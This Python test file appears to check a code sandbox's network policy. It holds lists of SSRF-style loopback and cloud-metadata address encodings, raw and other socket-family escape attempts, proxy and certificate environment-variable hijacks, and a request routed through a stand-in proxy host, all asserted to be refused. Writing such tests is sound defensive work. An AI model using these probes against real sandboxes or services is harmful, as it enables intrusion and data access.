"""
N01, N05, N08, N11, N13, N15, N16: what is not granted is not reached, asked for, or known.

Each attack has its twin under a policy that grants the target, which shows that it would arrive.
What green does not prove: what a kernel does with a socket that a worker was never given.
"""

import json

import pytest

from codecage.v1 import codecage_pb2 as pb
from tests.e2e.serving import private_directory, serving
from tests.executor.fakes.harness import ended, output
from tests.security.connected import GUEST

pytestmark = pytest.mark.image

WAYS = {
    "resolve": "socket.getaddrinfo('plain.test', 80)",
    "by name": "socket.gethostbyname('plain.test')",
    "connect": "connect('plain.test', 'plain').close()",
    "dial": "socket.socket().connect(('plain.test', PORTS['plain']))",
    "library": "__import__('urllib.request').request.urlopen(f'http://plain.test:{PORTS[\"plain\"]}/').status",
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("image", ["core", "data"])
def test_n01_without_a_grant_nothing_leaves(net, image, way):
    before = net.touched()
    (kind, text), decisions = net.run(
        f"attempt(lambda: {WAYS[way]} and None)", "sealed", image=image
    )
    assert kind in {"PermissionError", "URLError", "gaierror"}, (kind, text)
    assert "[policy sealed, rule network]" in text
    assert net.touched() == before
    assert net.denials(decisions)
    assert all(rule == "network" for _, rule in net.denials(decisions))
    (kind, text), decisions = net.run(f"attempt(lambda: {WAYS[way]} and None)", image=image)
    assert (kind, net.denials(decisions)) == ("done", []), text


SOCKETS = {
    "listen": "socket.create_server(('127.0.0.1', 0))",
    "bind": "socket.socket().bind(('0.0.0.0', 8080))",
    "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
    "udp6": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)",
    "sendto": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORTS['trap']))",
}
FAMILIES = {
    "unix": "socket.socket(socket.AF_UNIX).connect('/run/codecage/sock')",
    "abstract": "socket.socket(socket.AF_UNIX).connect('\\0codecage')",
    "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    "raw6": "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)",
    "netlink": "socket.socket(16, socket.SOCK_RAW, 0)",
    "packet": "socket.socket(17, socket.SOCK_RAW, 3)",
    "vsock": "socket.socket(40, socket.SOCK_STREAM).connect((2, 1024))",
    "seqpacket": "socket.socket(socket.AF_INET, 5)",
    "bluetooth": "socket.socket(31, socket.SOCK_STREAM, 3)",
    "sctp": "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)",
    "mptcp": "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)",
}


@pytest.mark.parametrize("way", SOCKETS)
def test_n01_no_grant_covers_listening_or_datagrams(net, way):
    before = net.trap.accepted
    (kind, text), decisions = net.run(f"attempt(lambda: {SOCKETS[way]} and None)", "friend")
    assert kind == "PermissionError", text
    assert "[policy friend, rule network]" in text
    assert len(net.denials(decisions)) == 1
    assert net.trap.accepted == before


@pytest.mark.parametrize("family", FAMILIES)
def test_n15_no_other_family_of_sockets_exists(net, family):
    (kind, text), decisions = net.run(f"attempt(lambda: {FAMILIES[family]} and None)", "friend")
    assert kind in {"PermissionError", "OSError", "AttributeError"}, (kind, text)
    assert not [one for one in decisions if one[1] == "allow"]
    stream = "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 6).close())"
    assert net.run(stream, "friend")[0] == ["done", None]


LITERALS = [
    "127.0.0.1",
    "127.1",
    "0x7f000001",
    "2130706433",
    "0177.0.0.1",
    "127.000.000.001",
    "::1",
    "[::1]",
    "::ffff:127.0.0.1",
    "::ffff:7f00:1",
    "::127.0.0.1",
    "fe80::1%lo",
    "0.0.0.0",
    "::",
    "0",
    "169.254.169.254",
    "fd00::1",
    "fd00:ec2::254",
    "100.64.0.1",
    "100.100.100.200",
    "168.63.129.16",
    "192.0.0.1",
    "198.18.0.1",
    "64:ff9b::7f00:1",
    "64:ff9b:1::7f00:1",
    "2002:7f00:1::1",
    "2001:0:7f00:1::1",
    "255.255.255.255",
    "224.0.0.1",
    "ff02::1",
    "localhost",
    "localhost.localdomain",
    "ip6-localhost",
    "localhost.",
]


@pytest.mark.parametrize("literal", LITERALS)
def test_n05_an_address_is_reached_by_its_own_grant_only(net, literal):
    """
    Under grants of names that lie on loopback, and of nothing by number.
    """
    before = net.touched()
    act = f"connect({literal!r}, 'plain').close()"
    (kind, text), decisions = net.run(f"attempt(lambda: {act})")
    assert kind in {"PermissionError", "gaierror", "OSError", "UnicodeError"}, (kind, text)
    assert net.touched() == before
    assert not [one for one in decisions if one[1] == "allow"]


def test_n05_synthetic_addresses_mean_nothing_before_they_are_given(net):
    """
    The addresses that names get in a session are its own: guessed ones are literals without grant.
    """
    act = "attempt(lambda: socket.socket().connect(('198.18.0.7', PORTS['plain'])))"
    (kind, _), decisions = net.run(act)
    assert kind == "PermissionError"
    assert len(net.denials(decisions)) == 1


def test_n05_a_literal_grant_is_a_grant(net):
    told, decisions = net.run("attempt(lambda: get('/v1/x', '127.0.0.1')[:15])", "friend")
    assert told == ["done", "HTTP/1.1 200 OK"]
    assert net.denials(decisions) == []


@pytest.mark.parametrize("port", [0, 22, 80, 443, 65535])
def test_n08_a_port_that_is_not_granted_is_refused(net, port):
    before = net.touched()
    (kind, text), decisions = net.run(f"attempt(lambda: connect('plain.test', {port}).close())")
    assert kind == "PermissionError", text
    assert "plain.test" in text
    assert net.touched() == before
    ((request, rule),) = net.denials(decisions)
    assert (request, rule) == (f"connect plain.test:{port}", "network[1]")


@pytest.mark.parametrize("port", ["65536", "-1", "'443 '", "'0x50'", "'http '", "10**30"])
def test_n08_what_is_no_port_is_none(net, port):
    before = net.touched()
    (kind, _), decisions = net.run(f"attempt(lambda: connect('plain.test', {port}).close())")
    assert kind in {"OverflowError", "gaierror", "PermissionError", "OSError", "ValueError"}
    assert net.touched() == before
    assert not [one for one in decisions if one[0].startswith("connect") and one[1] == "allow"]


@pytest.mark.parametrize("image", ["core", "web"])
def test_n11_variables_send_nothing_elsewhere(net, image):
    """
    Proxy and certificate variables that the guest sets, before and after its libraries load.
    """
    before = f"""
import os
with open("/tmp/mine.pem", "w") as file:
    file.write({(net.folder / "authority.pem").read_text()!r})
for name in ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
    os.environ[name] = "http://127.0.0.1:{net.ports["trap"]}"
for name in ("SSL_CERT_FILE", "SSL_CERT_DIR", "SSLKEYLOGFILE", "REQUESTS_CA_BUNDLE"):
    os.environ[name] = "/tmp/mine.pem"
os.environ.pop("NO_PROXY", None)
import urllib.request
"""
    program = "attempt(lambda: urllib.request.urlopen('{}', timeout=20).status)"
    trapped = net.trap.accepted
    for url in (
        f"http://plain.test:{net.ports['plain']}/v1/a",
        f"https://api.test:{net.ports['api']}/v1/a",
    ):
        told, decisions = net.run(program.format(url), image=image, before=before)
        assert told == ["done", 200], decisions
    assert net.trap.accepted == trapped
    if image == "web":
        url = f"https://api.test:{net.ports['api']}/v1/a"
        for library in ("requests", "httpx"):
            act = f"attempt(lambda: __import__('{library}').get('{url}').status_code)"
            assert net.run(act, image=image, before=before)[0] == ["done", 200]
        assert net.trap.accepted == trapped


def test_n11_variables_of_the_server_mean_nothing_to_its_connections(net, monkeypatch):
    """
    A proxy, an authority to trust, and a file for the keys of TLS, in the server's environment.
    """
    trap = f"http://127.0.0.1:{net.ports['trap']}"
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "https_proxy"):
        monkeypatch.setenv(name, trap)
    monkeypatch.setenv("SSL_CERT_FILE", str(net.folder / "authority.pem"))
    trapped = net.trap.accepted
    options = ["--policies", f"{net.folder}/policies", "--secrets", f"{net.folder}/secrets"]
    with private_directory() as top:
        top.chmod(0o755)
        keys = top / "keys"
        keys.touch(0o666)
        keys.chmod(0o666)
        monkeypatch.setenv("SSLKEYLOGFILE", str(keys))
        options += ["--resolver", net.dns.address]
        for trust in ([], ["--trust", f"{net.folder}/authority.pem"]):
            with serving(top / f"server{len(trust)}", [*options, *trust]) as server:
                session = server.create("caller")
                code = f"{GUEST.format(ports=net.ports)}\n"
                act = "attempt(lambda: get('/v1/x', 'api.test', 'api')[:15])"
                end = ended(server.run(session, f"{code}print(json.dumps({act}))"))
                assert end.status == pb.CELL_STATUS_OK, end
                told = json.loads(output(server.run(session, f"print(json.dumps({act}))")))
            assert (told == ["done", "HTTP/1.1 200 OK"]) == bool(trust), told
            assert trust or "certificate" in told[1]
        assert keys.read_text() == ""
    assert net.trap.accepted == trapped


def test_n11_a_proxy_that_the_guest_names_is_a_host_like_any_other(net):
    act = f"""attempt(lambda: urllib.request.build_opener(urllib.request.ProxyHandler(
        {{"http": "http://evil.test:{net.ports["trap"]}"}}
    )).open("http://plain.test:{net.ports["plain"]}/v1/a").status)"""
    trapped = net.trap.accepted
    (kind, text), decisions = net.run(act, before="import urllib.request")
    assert (kind, net.trap.accepted) == ("URLError", trapped)
    assert "resolve evil.test" in text
    assert net.denials(decisions) == [("resolve evil.test", "network")]


def test_n13_connections_at_a_time_are_bounded(net):
    """
    Sixteen, in this policy: the next is refused, and goes when one is closed.
    """
    held = "held = [connect('plain.test', 'plain') for _ in range(16)]"
    told, _ = net.run(
        "[attempt(lambda: connect('plain.test', 'plain').close()),"
        " held.pop().close(), attempt(lambda: connect('plain.test', 'plain').close())]",
        before=held,
    )
    assert told[0][0] == "OSError"
    assert "limits.connections" in told[0][1]
    assert told[2] == ["done", None]


def test_n13_a_thousand_attempts_in_bursts_end_in_order(net):
    """
    As many as a session may ask for, one after another and in bursts; the server stays well.
    """
    program = """
def burst(count):
    held, refused = [], 0
    for _ in range(count):
        try:
            held.append(connect("plain.test", "plain"))
        except OSError:
            refused += 1
    for one in held:
        one.close()
    return refused
"""
    told, _ = net.run("[burst(40) for _ in range(25)]", before=program)
    assert all(refused >= 24 for refused in told), told
    assert net.run("attempt(lambda: get('/v1/after')[:15])")[0] == ["done", "HTTP/1.1 200 OK"]


def test_n13_two_sessions_share_no_connection_and_no_cookie(net):
    """
    The same pool object would be the guest's own: what is asked is whether the server's side keeps any.
    """
    program = f"""
import json, requests
session = requests.Session()
URL = "http://plain.test:{net.ports["plain"]}"
"""
    with net.session(image="web") as first, net.session(image="web") as second:
        for session, who in ((first, "one"), (second, "two")):
            assert session.run(program).ok
            assert session.run(f"session.get(URL + '/cookie?who={who}').text").value == "'ok'"
        seen = [
            json.loads(eval(session.run("json.dumps(session.get(URL + '/echo').json())").value))
            for session in (first, second)
        ]
    assert [dict(map(tuple, one["fields"]))["Cookie"] for one in seen] == ["who=one", "who=two"]
    assert seen[0]["connection"] != seen[1]["connection"]


def test_n16_the_way_back_to_the_host_is_closed(net):
    """
    A service of the host itself, by each of its names, where no class of addresses is granted.
    """
    for host in ("inner.test", "plain.test"):
        accepted = net.plain.accepted
        (kind, text), decisions = net.run(f"attempt(lambda: talk('x', {host!r}))", "public")
        assert kind == "PermissionError", (kind, text)
        assert "127.0.0.1" in text
        (denied,) = net.denials(decisions)
        assert denied[0] == f"dial {host}:{net.ports['plain']} at 127.0.0.1 own"
        assert denied[1].endswith(".addresses")
        assert net.plain.accepted == accepted
    assert net.run("attempt(lambda: get('/x', 'inner.test')[:15])", "friend")[0] == [
        "done",
        "HTTP/1.1 200 OK",
    ]


def test_n16_the_servers_own_socket_is_no_file_of_the_guest(net):
    address = net.cage.address.removeprefix("unix:")
    told, _ = net.run(
        f"[attempt(lambda: open({address!r})), attempt(lambda: socket.socket(socket.AF_UNIX).connect({address!r}))]"
    )
    assert told[0][0] == "FileNotFoundError"
    assert told[1][0] in {"PermissionError", "OSError", "AttributeError"}


def test_the_program_of_the_guest_is_what_it_is_meant_to_be():
    assert "create_connection" in GUEST
